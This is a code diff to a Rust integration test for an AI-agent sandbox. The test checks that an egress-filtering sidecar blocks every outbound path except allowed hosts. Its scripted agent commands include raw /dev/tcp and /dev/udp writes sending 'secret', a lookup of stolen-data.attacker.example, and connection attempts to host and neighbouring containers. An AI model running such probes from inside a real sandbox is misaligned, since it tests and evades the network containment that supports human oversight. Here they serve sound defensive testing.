@@ -8,7 +8,8 @@ use bottle_tests::{
     standin::Standin,
     wire::Authority,
 };
-use std::net::TcpListener;
+use rustix::process::{Pid, Signal, kill_process};
+use std::net::{TcpListener, UdpSocket};
 
 struct Bottle {
     child: KillOnDrop,
@@ -17,137 +18,122 @@ struct Bottle {
     addresses: Vec<String>,
 }
 
-/// A bottle whose Claude waits, with what the engine says of its networks.
-fn waiting(lab: &Lab, home: &Home, go: &str) -> Result<Bottle> {
-    let wait = format!("@@bash until [ -e {go} ]; do sleep 0.1; done");
-    let child = home.start(&["start", "dev", "--yes", "--prompt", &wait], &[])?;
-    let identity = eventually("the bottle is listed", || {
-        let rows: serde_json::Value =
-            serde_json::from_str(&home.run(&["list", "active", "--json"]).ok()?.stdout).ok()?;
-        Some(rows.get(0)?["identity"].as_str()?.to_owned())
-    })?;
+/// Starts a bottle whose Claude plays these lines, and asks the engine where it stands.
+fn started(lab: &Lab, home: &Home, lines: &[String]) -> Result<Bottle> {
+    let prompt: String = lines.iter().map(|line| format!("@@bash {line}\n")).collect();
+    let child = home.start(&["start", "dev", "--yes", "--prompt", &prompt], &[])?;
+    let identity = eventually("the bottle is listed", || home.listed().pop())?;
     let label = format!("label=claude-bottle.identity={identity}");
-    let internal =
+    let network =
         lab.docker(&["network", "ls", "-q", "--filter", &label, "--filter", "label=claude-bottle.role=internal"])?;
-    let containers = lab.docker(&["ps", "-q", "--filter", &label])?;
     let mut addresses = vec![];
-    for id in containers.lines() {
+    for id in lab.docker(&["ps", "-q", "--filter", &label])?.lines() {
         let format = "{{range .NetworkSettings.Networks}}{{.IPAddress}} {{end}}";
-        let found = lab.docker(&["inspect", "-f", format, id])?;
-        addresses.extend(found.split_whitespace().map(str::to_owned));
+        addresses.extend(lab.docker(&["inspect", "-f", format, id])?.split_whitespace().map(str::to_owned));
     }
-    Ok(Bottle { child, identity, bridge: format!("br-{}", internal.trim()), addresses })
+    Ok(Bottle { child, identity, bridge: format!("br-{}", network.trim()), addresses })
+}
+
+/// Ends a waiting bottle with SIGTERM, and sees that it leaves nothing either.
+fn stop(lab: &Lab, home: &Home, bottle: Bottle) -> Result<()> {
+    kill_process(Pid::from_child(&bottle.child), Signal::TERM)?;
+    let run = bottle.child.finish()?;
+    assert_eq!(run.code, Some(128 + 15), "{run:?}");
+    assert_nothing_left(lab, home, &bottle.identity)
+}
+
+/// Tries to connect, and says how that ended in its last line: `rc=1` refused or no way, `rc=124` no answer in time.
+fn connect(ip: &str, port: u16) -> String {
+    format!("timeout 3 bash -c 'echo hello > /dev/tcp/{ip}/{port}' 2>&1; echo rc=$?")
+}
+
+fn last_line(text: &str) -> &str {
+    text.trim_end().lines().last().unwrap_or_default()
 }
 
 #[test]
 fn nothing_but_the_sidecar_is_within_reach() -> Result<()> {
     let (lab, authority) = (Lab::get(), Authority::new()?);
-    let standin =
-        Standin::start(&authority, &["api.anthropic.com", "allowed.example"], &format!("Bearer {REAL_TOKEN}"))?;
-    let home = Home::new(lab, &authority, &standin)?;
-    let routes =
-        ["api.anthropic.com", "allowed.example"].map(|h| format!("{{host: {h}, address: {}}}", standin.address));
+    let hosts = ["api.anthropic.com", "allowed.example"];
+    let standin = Standin::start(&authority, &hosts, &format!("Bearer {REAL_TOKEN}"))?;
+    let routes = hosts.map(|h| format!("{{host: {h}, address: {}}}", standin.address));
+    let (home, neighbours) = (Home::new(lab, &authority, &standin)?, Home::new(lab, &authority, &standin)?);
     home.bottle("box", &routes.each_ref().map(String::as_str))?;
     let target = Target::new()?;
-    // The counter counts: one packet of ours is seen.
-    let _ = std::net::UdpSocket::bind("0.0.0.0:0")?.send_to(b"x", (target.address, 9));
+    let address = target.address;
+    // The target's counter counts.
+    let _ = UdpSocket::bind("0.0.0.0:0")?.send_to(b"x", (address, 9));
     eventually("the target's counter counts", || (target.packets().ok()? > 0).then_some(()))?;
     let before = target.packets()?;
 
     // Another bottle, and a listener on every address of this machine.
-    let neighbours = Home::new(lab, &authority, &standin)?;
-    let neighbour = waiting(lab, &neighbours, "/nowhere")?;
+    let neighbour = started(lab, &neighbours, &["until [ -e /nowhere ]; do sleep 0.1; done".into()])?;
     let listener = TcpListener::bind("0.0.0.0:0")?;
     listener.set_nonblocking(true)?;
     let port = listener.local_addr()?.port();
-    let machine = ["172.17.0.1", "198.51.100.1"];
+    let docker0 = lab.docker(&["network", "inspect", "-f", "{{(index .IPAM.Config 0).Gateway}}", "bridge"])?;
+    let machine = [docker0.trim().to_owned(), "198.51.100.1".into()];
 
-    // The bottle under test is started first and told to go later, so that its bridge can be watched.
-    let address = target.address;
-    let connect =
-        |ip: &str, port: u16| format!("timeout 3 bash -c 'echo hello > /dev/tcp/{ip}/{port}' 2>&1; echo rc=$?");
     let mut lines: Vec<String> = vec![
-        "until curl -sf -m 2 https://allowed.example/go -o /dev/null || [ $? = 22 ]; do sleep 0.1; done; sleep 3"
-            .into(),
+        // Nothing is tried before every counter stands.
+        "until curl -sf -m 2 https://allowed.example/gate -o /dev/null; do sleep 0.1; done; echo open".into(),
         connect(&address.to_string(), 8000),
         connect(&address.to_string(), 443),
         format!("curl -sS -m 5 --noproxy '*' https://{address}/ 2>&1; echo rc=$?"),
+        format!("ping -c1 -W2 {address} 2>&1; echo rc=$?"),
+        format!("timeout 3 bash -c 'echo secret > /dev/udp/{address}/53'; {}", connect(&address.to_string(), 53)),
+    ];
+    lines.extend(machine.iter().map(|ip| connect(ip, port)));
+    lines.extend(neighbour.addresses.iter().flat_map(|ip| [connect(ip, 9099), connect(ip, 53)]));
+    let out_of_reach = lines.len();
+    lines.extend([
         format!("curl -sS -m 5 http://{address}:8000/ ; echo; curl -sS -m 5 -k https://{address}/"),
-        format!(
-            "timeout 3 bash -c 'echo secret > /dev/udp/{address}/53'; timeout 3 bash -c 'echo > /dev/tcp/{address}/53' 2>&1; echo rc=$?"
-        ),
         "getent hosts stolen-data.attacker.example; echo rc=$?".into(),
         "curl -sS -m 5 https://forbidden.example/; echo; curl -sS -m 5 https://allowed.example/yes".into(),
-        "ping -c1 -W2 198.51.100.129 2>&1; ip route get 198.51.100.129 2>&1 | head -1; echo done".into(),
-    ];
-    let mut unreachable: Vec<String> = machine.iter().map(|ip| connect(ip, port)).collect();
-    unreachable.extend(neighbour.addresses.iter().flat_map(|ip| [connect(ip, 9099), connect(ip, 53)]));
-    let (first_unreachable, count) = (lines.len(), unreachable.len());
-    lines.extend(unreachable);
-    let prompt: String = lines.iter().map(|line| format!("@@bash {line}\n")).collect();
+        connect("egress", 9099),
+    ]);
 
-    let child = home.start(&["start", "dev", "--yes", "--prompt", &prompt], &[])?;
-    let identity = eventually("the bottle is listed", || {
-        let rows: serde_json::Value =
-            serde_json::from_str(&home.run(&["list", "active", "--json"]).ok()?.stdout).ok()?;
-        Some(rows.get(0)?["identity"].as_str()?.to_owned())
-    })?;
-    let filter = format!("label=claude-bottle.identity={identity}");
-    let network =
-        lab.docker(&["network", "ls", "-q", "--filter", &filter, "--filter", "label=claude-bottle.role=internal"])?;
-    let bridge = format!("br-{}", network.trim());
-    let mut counters = vec![];
-    for ip in machine.iter().map(|ip| (*ip).to_owned()).chain(neighbour.addresses.iter().cloned()) {
-        counters.push((ip.clone(), HostCounter::new(&["-i", &bridge, "-d", &ip])?));
-    }
-    let across = HostCounter::new(&["-i", &bridge, "-d", &format!("{address}/32")])?;
-    let neighbours_bridge = HostCounter::new(&["-i", &neighbour.bridge, "-p", "tcp", "--dport", "9999"])?;
-    let log = eventually("the egress log is there", || Some(home.egress_log()).filter(|log| log.len() > 4));
-    let run = child.finish()?;
+    let bottle = started(lab, &home, &lines)?;
+    let everywhere = machine.iter().cloned().chain(neighbour.addresses.clone()).chain([address.to_string()]);
+    let counters: Vec<(String, HostCounter)> = everywhere
+        .map(|ip| Ok((ip.clone(), HostCounter::new(&["-i", &bottle.bridge, "-d", &ip])?)))
+        .collect::<Result<_>>()?;
+    // Packets between the bottle and its own sidecar cross the same bridge: these counters do count.
+    let control = HostCounter::new(&["-i", &bottle.bridge, "-p", "tcp", "--dport", "9099"])?;
+    standin.open_gate();
+    let run = bottle.child.finish()?;
     let results = run.results().with_context(|| format!("{run:?}"))?;
+    assert_eq!((results.len(), last_line(&results[0])), (lines.len(), "open"), "{results:#?}");
 
-    // Allowed: arrived. Refused by the proxy: told so, in words. Everything else: no packet.
-    assert!(standin.seen().iter().any(|s| s.path == "/yes"), "the allowed request did not arrive: {results:?}");
-    for (i, result) in results.iter().enumerate().skip(1).take(2) {
-        assert!(result.contains("rc=1"), "{}: {result}", lines[i]);
+    // Everything up to here: neither an answer, nor a packet that left.
+    for (line, result) in lines.iter().zip(&results).take(out_of_reach).skip(1) {
+        let end = last_line(result);
+        assert!(["rc=1", "rc=7", "rc=28", "rc=124"].contains(&end), "{line}: {result}");
     }
-    assert!(!results[3].contains("rc=0"), "{}", results[3]);
-    assert_eq!(results[4].matches("bottle_egress_denied").count(), 2, "{}", results[4]);
-    assert!(results[5].contains("rc=1") || results[5].contains("rc=124"), "{}", results[5]);
-    assert!(results[6].contains("rc=2"), "{}", results[6]);
-    assert!(results[7].contains("\"rule\":\"host\""), "{}", results[7]);
-    for (line, result) in lines.iter().zip(&results).skip(first_unreachable).take(count) {
-        assert!(result.contains("rc=1"), "{line}: {result}");
-    }
-    assert_eq!(target.packets()?, before, "packets reached {address}: {:?}", target.seen());
-    assert!(target.seen().is_empty(), "{:?}", target.seen());
-    assert!(listener.accept().is_err(), "the machine's own listener was reached");
     for (ip, counter) in &counters {
         assert_eq!(counter.packets()?, 0, "packets to {ip} left the bottle");
     }
-    assert_eq!((across.packets()?, neighbours_bridge.packets()?), (0, 0));
+    assert!(control.packets()? > 0, "packets on the bottle's bridge are not seen: the counters prove nothing");
+    assert_eq!(target.packets()?, before, "packets reached {address}: {:?}", target.seen());
+    assert!(target.seen().is_empty(), "{:?}", target.seen());
+    assert!(listener.accept().is_err(), "the machine's own listener was reached");
 
-    // And it is all in the log.
-    log.context("no egress log while the bottle ran")?;
-    let denied: Vec<&str> = run.stderr.lines().filter(|line| line.contains("denied")).collect();
-    let all = denied.join("\n");
-    for what in
+    // Refused by the sidecar, in words; allowed: arrived; in the log, all of it.
+    let rest = &results[out_of_reach..];
+    assert_eq!(rest[0].matches("bottle_egress_denied").count(), 2, "{}", rest[0]);
+    assert_eq!(last_line(&rest[1]), "rc=2", "{}", rest[1]);
+    assert!(rest[2].contains("\"rule\":\"host\""), "{}", rest[2]);
+    assert_eq!(last_line(&rest[3]), "rc=0", "the sidecar itself is not reached: {}", rest[3]);
+    assert!(standin.seen().iter().any(|s| s.path == "/yes"), "the allowed request did not arrive: {rest:?}");
+    let refused = |place: &str| run.stderr.lines().any(|line| line.contains("denied") && line.ends_with(place));
+    for place in
         ["forbidden.example:443 (host)", "stolen-data.attacker.example (dns)", &format!("{address}:8000 (host)")]
     {
-        assert!(all.contains(what), "{what} is not in {}", run.stderr);
+        assert!(refused(place), "{place} is not in {}", run.stderr);
     }
     assert_eq!(run.code, Some(0));
     assert_nothing_left(lab, &home, &identity_in(&run.stderr)?)?;
     stop(lab, &neighbours, neighbour)
-}
-
-/// Ends a waiting bottle with SIGTERM, and sees that it leaves nothing either.
-fn stop(lab: &Lab, home: &Home, bottle: Bottle) -> Result<()> {
-    let pid = rustix::process::Pid::from_child(&bottle.child);
-    rustix::process::kill_process(pid, rustix::process::Signal::TERM)?;
-    let run = bottle.child.finish()?;
-    assert_eq!(run.code, Some(128 + 15), "{run:?}");
-    assert_nothing_left(lab, home, &bottle.identity)
 }
 
 #[test]
